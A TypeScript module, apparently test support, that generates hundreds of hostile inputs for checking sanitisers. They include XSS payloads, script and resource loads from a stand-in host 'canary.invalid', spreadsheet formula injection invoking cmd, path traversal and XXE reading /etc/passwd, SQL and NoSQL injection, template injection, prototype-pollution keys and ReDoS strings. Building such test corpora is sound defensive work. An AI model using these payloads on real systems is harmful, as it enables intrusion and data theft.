/** Hostile texts of our own making: each is one a page, a file or a program might run, compute or stumble over. */

/** Runs when a payload is taken for script; the number tells which. */
const act = (number: number): string => `window.__ran=${number}`;
/** A host that no page may ask for. */
const FOREIGN = 'canary.invalid';

const EVENTS = ['load', 'error', 'focus', 'toggle', 'animationstart', 'pointerenter', 'beforetoggle', 'transitionend', 'scrollend', 'copy', 'begin'];
const TAGS = ['img', 'svg', 'body', 'iframe', 'video', 'audio', 'details', 'input', 'select', 'marquee', 'object', 'embed', 'use', 'image', 'animate'];
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  ' javascript:',
  'vbscript:',
  'data:text/html,',
  'data:image/svg+xml,',
];
const ENDS = ['', '"', "'", '">', "'>", '-->', ']]>', '</title>', '</textarea>', '</style>', '</script>', '</text></svg>', '`', '${', '&quot;>', '\u2028'];
const CONFUSABLES = [
  '＜script＞',
  '‹script›',
  '〈script〉',
  '˂script˃',
  'ѕcript',
  'ｓｃｒｉｐｔ',
  '\uFF1Cimg src=x onerror=',
  '\u01C3--',
  'scr\u200Bipt',
  'scr\u00ADipt',
  'ſcript',
];
const KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  '__lookupSetter__',
  'watch',
  'then',
  'toJSON',
  'length',
  'name',
  'nodeName',
  'innerHTML',
];
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://canary.invalid/","x")',
  "+cmd|'/C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '=WEBSERVICE("https://canary.invalid/")',
  '=IMPORTXML("https://canary.invalid/","//a")',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '"=1',
  "'=1",
  '=DDE("cmd";"/C calc";"x")',
  '%0A=1',
  ';=1',
  '=cmd|x!A1',
];
const REGEX = [
  'a'.repeat(40) + '!',
  '('.repeat(60),
  '[['.repeat(30),
  '(a+)+$',
  '(.*)*x',
  '\\'.repeat(50),
  '1'.repeat(60) + 'e',
  '万'.repeat(60),
  'ab'.repeat(60),
  '^(([a-z])+.)+[A-Z]([a-z])+$',
  ' '.repeat(20) + 'x',
  '1,'.repeat(60),
];
const ODD = [
  '\u202Egnp.exe',
  '\u202A\u202B\u202C\u202D',
  '\u2066\u2067\u2068\u2069x',
  'x\u200B\u200C\u200D\u2060\uFEFFx',
  'x\u0000y',
  '\u0000<script>',
  '\u0008\u001B[31mred',
  '\uD800',
  'x\uDFFFy',
  '\uFFFE\uFFFF',
  '\u{E0001}\u{E0061}tag',
  'e\u0301'.repeat(30),
  'Z\u0351\u0344\u0320\u0319'.repeat(8),
  '👩‍👩‍👧‍👦'.repeat(8),
  '𠮷'.repeat(40),
  'שלום'.repeat(10),
  'تجربة<b>',
  '\r\nSet-Cookie: a=b',
  '%3Cscript%3E',
  '%253Cscript%253E',
  '\\u003cscript\\u003e',
  '&#60;script&#62;',
  '&lt;script&gt;',
  '&#x3C;img src=x&#x3E;',
  '+ADw-script+AD4-',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  // In parts, as no file here may hold a path of a disk.
  ['C:', 'con'].join('\\'),
  'file:///etc/passwd',
  '{{constructor.constructor("return 1")()}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{%25 x %25}',
  '[[${7*7}]]',
  '?lit$123456789$',
  '<!--?lit$000000000$-->',
  '<?lit$x$?>',
  "' OR 1=1 --",
  '{"$ne":null}',
  '!!js/function >',
  '*alias',
  '<?xml version="1.0"?>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '<![CDATA[x]]>',
  '-Infinity',
  '1e309',
  'NaN',
  'null',
  'undefined',
  '[object Object]',
  'true',
];

function* made(): Generator<(number: number) => string> {
  for (const end of ENDS) {
    yield (at) => `${end}<script>${act(at)}</script>`;
    yield (at) => `${end}<script src="https://${FOREIGN}/${at}.js"></script>`;
    yield (at) => `${end}<img src=x onerror=${act(at)}>`;
    yield (at) => `${end}<svg onload=${act(at)}>`;
    yield (at) => `${end}<svg xmlns="http://www.w3.org/2000/svg"><script>${act(at)}</script></svg>`;
    yield (at) => `${end}<iframe srcdoc="<script>parent.__ran=${at}</script>"></iframe>`;
    yield (at) => `${end}<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${act(at)}"/></foreignObject>`;
    yield (at) => `${end} onmouseover=${act(at)} autofocus onfocus=${act(at)} x=`;
  }
  for (const tag of TAGS) for (const event of EVENTS) yield (at) => `<${tag} src=x on${event}=${act(at)} autofocus tabindex=0>`;
  for (const scheme of SCHEMES) {
    yield (at) => `${scheme}${act(at)}`;
    yield (at) => `<a href="${scheme}${act(at)}">x</a>`;
    yield (at) => `<iframe src="${scheme}${act(at)}"></iframe>`;
    yield (at) => `<form action="${scheme}${act(at)}"><button>x</button></form>`;
    yield (at) => `<svg><a xlink:href="${scheme}${act(at)}"><text>x</text></a></svg>`;
    yield (at) => `[x](${scheme}${act(at)})`;
  }
  for (const property of ['background', 'background-image', 'list-style', 'cursor', 'behavior', '-moz-binding', 'width']) {
    yield (at) => `</style><style>*{${property}:url(https://${FOREIGN}/${at})}</style>`;
    yield (at) => `x" style="${property}:url(https://${FOREIGN}/${at})`;
    yield (at) => `;${property}:expression(${act(at)})`;
  }
  for (const rel of ['stylesheet', 'preload', 'prefetch', 'preconnect', 'dns-prefetch', 'modulepreload', 'icon', 'manifest'])
    yield (at) => `<link rel=${rel} href=https://${FOREIGN}/${at}>`;
  yield (at) => `<meta http-equiv=refresh content="0;url=https://${FOREIGN}/${at}">`;
  yield (at) => `<base href=https://${FOREIGN}/${at}/>`;
  yield (at) => `<template shadowrootmode=open><img src=x onerror=${act(at)}></template>`;
  yield (at) => `<math><mtext><table><mglyph><style><img src=x onerror=${act(at)}>`;
  yield (at) => `<noscript><p title="</noscript><img src=x onerror=${act(at)}>">`;
  yield (at) => `<img src="https://${FOREIGN}/${at}.png">`;
  yield (at) => `<video poster=https://${FOREIGN}/${at}>`;
  yield (at) => `<input type=image src=https://${FOREIGN}/${at} formaction=javascript:${act(at)}>`;
  yield (at) => `<object data=https://${FOREIGN}/${at}></object>`;
  yield (at) => `@import "https://${FOREIGN}/${at}";`;
  for (const each of CONFUSABLES) yield (at) => `${each}${act(at)}`;
  for (const key of KEYS) {
    yield () => key;
    yield (at) => `{"${key}":{"polluted":${at}}}`;
    yield (at) => `${key}.polluted=${at}`;
    yield (at) => `${key}[polluted]=${at}`;
  }
  for (const each of [...FORMULAS, ...REGEX, ...ODD]) yield () => each;
  for (const sign of ['a', '字', '<', '&', '"', '\u202E', '🛶', '\u0301']) for (const times of [200, 5000]) yield (at) => `${sign.repeat(times)}${at}`;
  for (const depth of [50, 2000]) {
    yield () => '['.repeat(depth) + ']'.repeat(depth);
    yield () => '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
    yield () => '<g>'.repeat(depth);
  }
}

/** At least 500, no two alike. */
export const PAYLOADS: readonly string[] = [...new Set([...made()].map((make, at) => make(at)))];

/** Those of at most so many signs: fields that take no more refuse the others. */
export const upTo = (signs: number): string[] => PAYLOADS.filter((payload) => payload.length <= signs);

/** Without halves of signs, which no address and no file can hold. */
export const wellFormed = (text: string): string => Buffer.from(text).toString();
